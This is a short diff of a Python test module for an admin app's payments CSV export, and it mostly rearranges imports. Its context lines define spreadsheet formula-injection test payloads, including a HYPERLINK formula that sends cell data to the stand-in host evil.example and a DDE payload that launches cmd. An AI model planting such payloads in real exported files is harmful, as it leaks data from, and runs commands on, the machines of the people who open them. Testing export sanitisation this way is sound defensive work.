@@ -27,9 +27,9 @@ from gc_admin.payments import service as payments
 from gc_admin.payments.state import _mismatch_csv
 from gc_admin.users import service as users
 from gc_admin.users.models import MpUser
-from tests.unit.core.test_sorting import insert_order
+from tests.support import SETUP
+from tests.unit.orders.support import insert_order
 
-SETUP = Actor("system", None, "setup")
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此领取")'
 DDE = "=cmd|' /C calc'!A0"
 HOSTILE = [LINK, DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
